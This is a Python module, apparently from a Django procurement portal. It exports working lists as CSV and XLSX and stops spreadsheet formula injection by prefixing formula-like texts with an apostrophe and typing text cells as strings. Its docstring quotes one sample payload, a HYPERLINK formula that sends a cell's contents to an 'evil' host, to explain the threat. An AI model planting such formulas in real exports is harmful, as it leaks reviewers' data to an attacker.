"""Every CSV and XLSX the portal writes goes through here, so no cell becomes a formula.

A supplier names a product ``=HYPERLINK("http://evil/?"&A1,"Click")``; a reviewer exports the
register and opens it in Excel, which runs it (CSV/formula injection). Two rules, in one
place:

* a text that starts with a formula prefix (``=``, ``+``, ``-``, ``@``, tab or carriage
  return) is written with a leading apostrophe, which spreadsheets show as text and never
  evaluate (``neutralise``);
* in XLSX every text cell is typed as a string (``t="s"``/inline string), never as a
  formula, whatever it starts with (``xlsx_row``).

Numbers, dates and booleans are written as they are: they cannot hold a formula.
"""

import csv
import datetime
import io
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

from django.core.exceptions import ImproperlyConfigured
from django.urls import get_resolver
from django.utils import timezone, translation
from django.utils.functional import Promise
from django.utils.translation import gettext as _

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"


def neutralise(value: Any) -> Any:
    """The value as a cell may safely hold it: texts with a formula prefix get a ``'``."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    if isinstance(value, datetime.date | datetime.datetime | datetime.time):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def csv_cell(value: Any) -> Any:
    """A value for a CSV cell: dates in ISO form, None as empty, texts neutralised."""
    if value is None:
        return ""
    if isinstance(value, datetime.date | datetime.datetime):
        return value.isoformat()
    return neutralise(value)


def csv_line(values: Iterable[Any], *, delimiter: str = ",", lineterminator: str = "\r\n") -> str:
    """One CSV line of safe cells (for streamed answers, one line at a time)."""
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator=lineterminator).writerow(
        [csv_cell(value) for value in values]
    )
    return buffer.getvalue()


def csv_lines(
    rows: Iterable[Iterable[Any]], *, delimiter: str = ",", lineterminator: str = "\r\n"
) -> Iterator[str]:
    for row in rows:
        yield csv_line(row, delimiter=delimiter, lineterminator=lineterminator)


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list:
    """The cells of one row for ``sheet.append``: texts neutralised and typed as strings.

    Works for write-only sheets (``WriteOnlyCell``) and ordinary ones alike.
    """
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        safe = neutralise(value)
        cell = WriteOnlyCell(sheet, value=safe)
        if isinstance(safe, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells


def xlsx_cell(sheet: Any, *, row: int, column: int, value: Any) -> Any:
    """Set one cell of an ordinary sheet safely (a neutralised value, typed as text)."""
    safe = neutralise(value)
    cell = sheet.cell(row=row, column=column, value=safe)
    if isinstance(safe, str):
        cell.data_type = "s"
    return cell


# --- working lists as files ---------------------------------------------------------------
#
# Every working list (the review queue, offers, suppliers, tenders, ...) declares once how it
# exports: its own rows in its own order (the selector and FilterSet the page or API list
# uses, so scope and filters are the list's) and its columns. The page, the API and the
# export job's worker all read that one declaration (``ExportList``), registered here by the
# app that owns the list (``<app>/tables.py``).

EXPORT_FORMATS = ("csv", "xlsx")
EXPORT_CONTENT_TYPES = {"csv": CSV_CONTENT_TYPE, "xlsx": XLSX_CONTENT_TYPE}
# Rows per chunk read from the database (and between two progress reports of a job).
EXPORT_CHUNK_ROWS = 500


@dataclass(frozen=True)
class Column:
    """One column: a translatable header and the cell's value for a row."""

    label: Any
    value: Callable[[Any], Any]


@dataclass(frozen=True)
class ExportList:
    """How one working list exports.

    ``rows(user, params)`` is the list's own queryset for ``user`` under the query string
    ``params`` (a ``QueryDict``), rows and order as the list shows them; it raises
    ``PermissionDenied`` or ``Http404`` where the list would. ``prepare`` adds the joins the
    columns read, so an export costs a bounded number of queries whatever its size.
    """

    name: str
    title: Any
    columns: tuple[Column, ...]
    rows: Callable[[Any, Any], Any]
    prepare: Callable[[Any], Any] | None = None
    # Who may read the list at all (raises ``PermissionDenied`` for the others), for the
    # lists a role opens (the review queue); the API's variant of the list checks it too.
    guard: Callable[[Any], None] | None = None

    def headers(self) -> list[str]:
        return [str(column.label) for column in self.columns]

    def values(self, row: Any) -> list[Any]:
        return [human(column.value(row)) for column in self.columns]

    def objects(self, queryset: Any) -> Iterator[Any]:
        if self.prepare is not None:
            queryset = self.prepare(queryset)
        return queryset.iterator(chunk_size=EXPORT_CHUNK_ROWS)

    def filename(self, file_format: str) -> str:
        return f"{self.name.replace('.', '-')}-{timezone.localdate():%Y-%m-%d}.{file_format}"


_EXPORT_LISTS: dict[str, ExportList] = {}


def export_list_register(export_list: ExportList) -> ExportList:
    """Declare a list's export under its unique name (once, at import of its module)."""
    known = _EXPORT_LISTS.get(export_list.name)
    if known is not None and known is not export_list:
        raise ImproperlyConfigured(f"Two working lists export as {export_list.name!r}.")
    _EXPORT_LISTS[export_list.name] = export_list
    return export_list


def export_list_get(name: str) -> ExportList:
    """The list registered as ``name`` (every app's URLs, and with them its lists, are
    loaded first: a worker has not imported them). ``LookupError`` for an unknown name."""
    if name not in _EXPORT_LISTS:
        _discover()
    try:
        return _EXPORT_LISTS[name]
    except KeyError:
        raise LookupError(name) from None


def export_list_names() -> list[str]:
    _discover()
    return sorted(_EXPORT_LISTS)


def _discover() -> None:
    get_resolver().url_patterns  # noqa: B018 - imports every view module, and their lists


def choice_label(choices: Iterable[tuple[Any, Any]]) -> Callable[[Any], Any]:
    """``label(value)``: a choice's label in the active language, looked up in a table made
    once per language (``get_FOO_display`` hashes every lazy label of the field per call:
    a third of an export's time)."""
    choices = list(choices)
    tables: dict[str | None, dict[Any, str]] = {}

    def label(value: Any) -> Any:
        language = translation.get_language()
        table = tables.get(language)
        if table is None:
            table = tables[language] = {key: str(text) for key, text in choices}
        return table.get(value, value)

    return label


def human(value: Any) -> Any:
    """A value as a person reads it in a cell: times in the portal's time zone to the
    minute (spreadsheets know no time zones), yes/no for booleans, choices by their label
    (give the label from the column), the rest as is."""
    if isinstance(value, bool):
        return str(_("Yes") if value else _("No"))
    if isinstance(value, datetime.datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value)
        return value.replace(tzinfo=None, second=0, microsecond=0)
    if isinstance(value, Promise):
        return str(value)
    return value


def human_csv_cell(value: Any) -> Any:
    """``csv_cell`` with times as ``YYYY-MM-DD HH:MM`` rather than ISO's ``T`` form."""
    if isinstance(value, datetime.datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    return csv_cell(value)


def export_csv_lines(
    export_list: ExportList, queryset: Any, *, progress: Callable[[int], None] | None = None
) -> Iterator[str]:
    """The list as CSV text, line by line: a BOM (Excel then reads UTF-8), the headers, a
    line per row. ``progress(rows_done)`` is called every ``EXPORT_CHUNK_ROWS`` rows."""
    yield "\ufeff"
    yield csv_line(export_list.headers())
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    done = 0
    for row in export_list.objects(queryset):
        writer.writerow([human_csv_cell(value) for value in export_list.values(row)])
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
        done += 1
        if progress is not None and done % EXPORT_CHUNK_ROWS == 0:
            progress(done)
    if progress is not None:
        progress(done)


def export_xlsx(
    export_list: ExportList,
    queryset: Any,
    target: Any,
    *,
    progress: Callable[[int], None] | None = None,
) -> int:
    """Write the list as one XLSX sheet to the binary file ``target`` (headers in bold
    row 1, dates typed as dates). Returns the rows written."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=_sheet_title(export_list.title))
    bold = Font(bold=True)
    header = []
    for label in export_list.headers():
        cell = WriteOnlyCell(sheet, value=neutralise(label))
        cell.data_type = "s"
        cell.font = bold
        header.append(cell)
    sheet.append(header)
    done = 0
    for row in export_list.objects(queryset):
        cells = xlsx_row(sheet, export_list.values(row))
        for cell in cells:
            if isinstance(cell.value, datetime.datetime):
                cell.number_format = "yyyy-mm-dd hh:mm"
            elif isinstance(cell.value, datetime.date):
                cell.number_format = "yyyy-mm-dd"
        sheet.append(cells)
        done += 1
        if progress is not None and done % EXPORT_CHUNK_ROWS == 0:
            progress(done)
    workbook.save(target)
    if progress is not None:
        progress(done)
    return done


def _sheet_title(title: Any) -> str:
    # A sheet's title: at most 31 characters, none of []:*?/\
    text = "".join(ch for ch in str(title) if ch not in "[]:*?/\\").strip()
    return (text or "Export")[:31]
